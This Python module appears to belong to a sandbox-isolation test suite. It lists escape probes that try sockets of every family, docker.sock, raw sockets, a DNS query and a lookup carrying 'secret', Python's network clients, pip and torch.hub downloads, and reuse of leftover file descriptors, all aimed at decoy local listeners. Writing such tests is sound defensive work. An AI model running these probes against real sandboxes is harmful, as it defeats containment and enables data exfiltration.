"""Speaking to anybody: sockets of every kind, its own channel as one, downloads, and the descriptors it was left.

The scene has listeners on 127.0.0.1, at a path and at an abstract name, and they hear nothing.
"""

from __future__ import annotations

from ..attack import Attack
from .kernel import ANSWER, CALLS, DOORS
from .killing import CHANNELS, HONEST, POINTS

ATTACKS = [
    Attack(
        "sockets",
        "opens sockets of every family, connects to and sends to the listeners of the host, asks for a name, listens",
        CALLS
        + """
import socket
def spoken(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as made:
        made.connect(address)
        return made.send(b"secret")
def thrown():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        return made.sendto(b"secret", ("127.0.0.1", $UDP))
def asked():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        return made.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\0\\0\\1\\0\\1", ("127.0.0.53", 53))
every = lambda: [(family, kind) for family in range(46) for kind in range(1, 7) if call("socket", family, kind, 0) < 0]
doors(
    tcp=lambda: socket.create_connection(("127.0.0.1", $PORT)), udp=thrown, dns=asked,
    path=lambda: spoken(socket.AF_UNIX, "$SOCKET"), abstract=lambda: spoken(socket.AF_UNIX, "\\0$ABSTRACT"),
    docker=lambda: spoken(socket.AF_UNIX, "/var/run/docker.sock"),
    ipv6=lambda: spoken(socket.AF_INET6, ("::1", $PORT)), machine=lambda: spoken(socket.AF_VSOCK, (2, 1024)),
    netlink=lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)),
    raw=lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1), packet=lambda: socket.socket(17, socket.SOCK_RAW, 8),
    crypto=lambda: socket.socket(socket.AF_ALG, 5, 0), bluetooth=lambda: socket.socket(31, socket.SOCK_RAW, 1),
    pair=lambda: socket.socketpair(), server=lambda: socket.create_server(("127.0.0.1", 0)), every=every,
    name=lambda: socket.getaddrinfo("secret.example.com", 80), reverse=lambda: socket.gethostbyaddr("127.0.0.1"),
)
"""
        + ANSWER,
    ),
    Attack(
        "clients",
        "lets Python's own clients call: web, mail, files, sub-interpreters, managers, an event loop, pip",
        DOORS
        + """
import asyncio, ftplib, http.client, importlib, multiprocessing, os, smtplib, urllib.request
import multiprocessing.connection, socketserver, xmlrpc.client
def installed():
    return importlib.import_module("pip._internal.cli.main").main(["download", "secret"])
quiet_doors(
    url=lambda: urllib.request.urlopen("http://127.0.0.1:$PORT/secret", timeout=1),
    http=lambda: http.client.HTTPConnection("127.0.0.1", $PORT, timeout=1).request("GET", "/secret"),
    ftp=lambda: ftplib.FTP("127.0.0.1", timeout=1), mail=lambda: smtplib.SMTP("127.0.0.1", $PORT, timeout=1),
    rpc=lambda: xmlrpc.client.ServerProxy("http://127.0.0.1:$PORT").secret(), loop=lambda: asyncio.new_event_loop(),
    run=lambda: asyncio.run(asyncio.open_connection("127.0.0.1", $PORT)),
    client=lambda: multiprocessing.connection.Client("$SOCKET"), pipe=lambda: multiprocessing.Pipe(),
    listener=lambda: multiprocessing.connection.Listener(("127.0.0.1", 0)), manager=lambda: multiprocessing.Manager(),
    queue=lambda: multiprocessing.Queue(), shared=lambda: multiprocessing.Array("b", 8),
    server=lambda: socketserver.TCPServer(("127.0.0.1", 0), None),
    pip=installed, ensurepip=lambda: importlib.import_module("ensurepip").bootstrap(),
)
"""
        + ANSWER,
    ),
    Attack(
        "torchs_own",
        "lets torch speak: a store and a process group of torch.distributed, torch.hub, workers of a loader, rpc",
        DOORS
        + """
import os, torch
import torch.distributed as dist
from datetime import timedelta
patience = timedelta(seconds=1)
loader = torch.utils.data.DataLoader([1, 2, 3], num_workers=2)
group = dict(rank=0, world_size=1, timeout=patience)
quiet_doors(
    store=lambda: dist.TCPStore("127.0.0.1", $PORT, 2, False, patience),
    own_store=lambda: dist.TCPStore("127.0.0.1", 0, 1, True, patience),
    gloo=lambda: dist.init_process_group("gloo", init_method="tcp://127.0.0.1:$PORT", **group),
    gloo_file=lambda: dist.init_process_group("gloo", store=dist.HashStore(), **group),
    hub=lambda: torch.hub.load("pytorch/vision", "resnet18", trust_repo=True),
    download=lambda: torch.hub.download_url_to_file("http://127.0.0.1:$PORT/secret", "secret"),
    weights=lambda: torch.hub.load_state_dict_from_url("http://127.0.0.1:$PORT/secret"),
    loader=lambda: list(loader), spawn=lambda: torch.multiprocessing.spawn(os.getpid),
    share=lambda: torch.zeros(3).share_memory_(),
)
"""
        + ANSWER,
    ),
    Attack(
        "channel_as_a_socket",
        "takes its own channel for a socket: who is there, which descriptors lie in it, what are its options",
        CALLS
        + """
import array, socket
channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, 3)
doors(
    received=lambda: channel.recvmsg(1, socket.CMSG_SPACE(64 * 4)), plain=lambda: channel.recv(1, socket.MSG_PEEK),
    waiting=lambda: channel.recv(1, socket.MSG_DONTWAIT), sent=lambda: channel.send(b"x"),
    passed=lambda: channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))]),
    credentials=lambda: channel.getsockopt(socket.SOL_SOCKET, 17, 12), name=lambda: channel.getsockname(),
    peer=lambda: channel.getpeername(), buffer=lambda: channel.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30),
    pidfd=lambda: channel.getsockopt(socket.SOL_SOCKET, 77, 4), end=lambda: channel.shutdown(socket.SHUT_RDWR),
    elsewhere=lambda: channel.connect("$SOCKET"), listening=lambda: channel.listen(), accepted=lambda: channel.accept(),
    bound=lambda: channel.bind("\\0mine"), guessed=lambda: socket.socket(fileno=3),
    many=lambda: call("recvmmsg", 3, 0, 0, 0, 0), spliced=lambda: call("splice", 3, 0, 1, 0, 1, 2),
    file=lambda: os.sendfile(3, 0, None, 10),
)
channel.detach()
"""
        + HONEST,
        target=CHANNELS,
        earns=POINTS,
    ),
    Attack(
        "descriptors_left_open",
        "looks for descriptors that were left to it, and opens them again: its own input and output, and no more",
        DOORS
        + """
import os, stat, termios, fcntl
def kinds():
    found = {}
    for fd in range(4096):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        found[fd] = {stat.S_IFCHR: "device", stat.S_IFIFO: "pipe", stat.S_IFSOCK: "socket"}.get(stat.S_IFMT(mode), mode)
    return found
attempt(kinds)
attempt(lambda: os.read(0, 100))
again = {f"{folder}/{fd}": (f"{folder}/{fd}", how) for folder in ("/proc/self/fd", "/dev/fd", "/proc/thread-self/fd")
         for fd in range(4) for how in (os.O_RDONLY, os.O_RDWR)}
doors(
    read_output=lambda: os.read(1, 1), read_errors=lambda: os.read(2, 1), write_input=lambda: os.write(0, b"x"),
    list=lambda: os.listdir("/proc/self/fd"), info=lambda: open("/proc/self/fdinfo/3").read(),
    grown=lambda: fcntl.fcntl(1, 1031, 2**20), **{name: lambda way=way: os.open(*way) for name, way in again.items()},
)
"""
        + ANSWER,
        gets=r"\{0: 'device', 1: 'pipe', 2: 'pipe', 3: 'socket'\}|b''|/(proc/(thread-)?self|dev)/fd/[012] \d+",
    ),
]
